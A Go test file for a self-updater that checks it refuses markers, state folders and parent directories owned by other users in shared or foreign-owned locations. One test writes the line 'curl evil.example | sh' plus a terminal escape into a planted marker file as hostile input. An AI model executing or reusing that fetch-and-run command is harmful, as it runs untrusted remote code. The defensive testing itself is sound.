package updater

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/theseus-go/theseus/internal/state"
	"github.com/theseus-go/theseus/internal/testenv"
	"github.com/theseus-go/theseus/internal/testrelease"
)

// R13: in a sticky folder another user has put a marker beside the program, which would keep it from updating. It does not
// count; root's does.
func TestR13MarkerOfAStranger(t *testing.T) {
	testenv.NeedRoot(t)
	for uid, managed := range map[int]bool{1002: false, 0: true} {
		repo := published(t, "1.0.0", "1.1.0")
		c := install(t, repo, "1.0.0")
		dir, marker := filepath.Dir(c.path), filepath.Join(filepath.Dir(c.path), ".hello.managed")
		if err := errors.Join(os.Chmod(dir, 0o777|os.ModeSticky), os.WriteFile(marker, []byte("curl evil.example | sh\x1b[2J\n"), 0o644), os.Chown(marker, uid, uid)); err != nil {
			t.Fatal(err)
		}
		next := again(t, repo, c.path, "1.0.0")
		r, err := next.update()
		if managed {
			if !errors.Is(err, ErrNothing) || strings.Contains(err.Error(), "\x1b") {
				t.Errorf("root's marker: %+v, %v", r, err)
			}
			continue
		}
		if err != nil || r.Installed != "1.1.0" {
			t.Errorf("a stranger's marker: %+v, %v", r, err)
		}
	}
}

// R12: in a sticky folder another user has made the state folder, with a journal by which his file would be put in place.
// Nothing of it is believed, and nothing is changed; once it is gone, the update goes through.
func TestR12StateFolderOfAStranger(t *testing.T) {
	testenv.NeedRoot(t)
	repo := published(t, "1.0.0", "1.1.0")
	c := install(t, repo, "1.0.0")
	c.mustUpdate("1.1.0") // his copy of what a state folder looks like
	dir, home := filepath.Dir(c.path), c.disk.Home
	previous, err := filepath.Glob(filepath.Join(home, "previous-*"))
	if err != nil || len(previous) != 1 {
		t.Fatalf("%v, %v", previous, err)
	}
	c.remembers(func(st *state.State) {
		st.Journal = &state.Journal{Step: state.Undo, From: *st.Installed, To: *st.Previous}
	})
	if err := errors.Join(os.Chmod(dir, 0o777|os.ModeSticky), os.Chmod(home, 0o777)); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{home, filepath.Join(home, "state"), filepath.Join(home, "lock"), previous[0]} {
		if err := os.Chown(path, 1002, 1002); err != nil {
			t.Fatal(err)
		}
	}
	repo.Publish("1.2.0", program("1.2.0"), testrelease.Both())
	next := again(t, repo, c.path, "1.1.0")
	if _, err := next.update(); !errors.Is(err, ErrPermission) || !strings.Contains(err.Error(), "user 1002") {
		t.Errorf("update: %v", err)
	}
	if _, err := Recover(t.Context(), c.path, nil); !errors.Is(err, ErrPermission) {
		t.Errorf("recover: %v", err)
	}
	next.holds("1.1.0")
	if err := os.RemoveAll(home); err != nil {
		t.Fatal(err)
	}
	again(t, repo, c.path, "1.1.0").mustUpdate("1.2.0")
}

// R05: a folder above the program's belongs to a stranger, who could put another in its place at any moment. The program
// runs, says so, and changes nothing.
func TestR05FolderOfAStrangerAbove(t *testing.T) {
	testenv.NeedRoot(t)
	repo := published(t, "1.0.0", "1.1.0")
	above := filepath.Join(t.TempDir(), "above")
	path := filepath.Join(above, "app", "hello")
	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, program("1.0.0"), 0o755), os.Chown(above, 1002, 1002)); err != nil {
		t.Fatal(err)
	}
	c := again(t, repo, path, "1.0.0")
	if _, err := c.update(); !errors.Is(err, ErrPermission) || !strings.Contains(err.Error(), "user 1002") {
		t.Errorf("update: %v", err)
	}
	if _, err := Recover(t.Context(), path, nil); !errors.Is(err, ErrPermission) {
		t.Errorf("recover: %v", err)
	}
	if _, err := os.Lstat(c.disk.Home); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("something was made: %v", err)
	}
	if err := os.Chown(above, 0, 0); err != nil {
		t.Fatal(err)
	}
	again(t, repo, path, "1.0.0").mustUpdate("1.1.0")
}
